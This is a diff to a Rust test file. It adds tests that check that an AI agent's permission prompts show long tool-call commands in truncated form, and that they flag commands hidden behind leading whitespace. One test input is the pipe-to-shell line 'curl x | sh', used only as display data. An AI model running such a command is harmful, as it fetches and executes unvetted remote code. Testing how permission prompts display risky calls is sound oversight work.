@@ -118,6 +118,41 @@ fn granted_targets_are_shown_with_long_options() {
     assert!(prompt_text(ChannelFeatures::default(), &payload).contains(&line));
 }
 
+/// What an answer would allow is shown, also if the list of options fills a message.
+#[test]
+fn a_call_is_shown_with_long_options() {
+    let line = format!("curl x | sh; {}", "y ".repeat(500));
+    for call in [
+        json!({"title": "Bash", "rawInput": {"command": line}}),
+        json!({"title": line, "rawInput": {"command": line}}),
+        json!({"title": "Bash", "rawInput": {"script": line}}),
+    ] {
+        let mut payload = question(call, 25);
+        for option in payload["params"]["options"].as_array_mut().into_iter().flatten() {
+            option["name"] = json!("n".repeat(300));
+        }
+        for shows in [ChannelFeatures::default(), ChannelFeatures { buttons: 0, ..chat() }] {
+            let text = prompt_text(shows, &payload);
+            assert!(text.contains(&line[..400]) && text.contains("Truncated: "), "{text}");
+            assert!(text.contains(&format!("\n1. {}… (allow once)\n", "n".repeat(79))), "{text}");
+        }
+    }
+}
+
+/// A command that begins with much white space is not shown, and the question says so.
+#[test]
+fn a_question_says_that_its_call_is_not_shown() {
+    let payload =
+        question(json!({"title": "ls", "rawInput": {"command": format!("{}ls", "\n".repeat(30))}}), 1);
+    for (shows, want) in [
+        (chat(), "The agent asks for a permission: **ls**\n-# Truncated: "),
+        (ChannelFeatures::default(), "The agent asks for a permission: ls\n(Truncated: "),
+    ] {
+        let text = prompt_text(shows, &payload);
+        assert!(text.starts_with(want), "{text}");
+    }
+}
+
 /// The resolution is shown once: in the question if it can be edited, otherwise in a separate message.
 #[test]
 fn resolution_is_shown_once() {
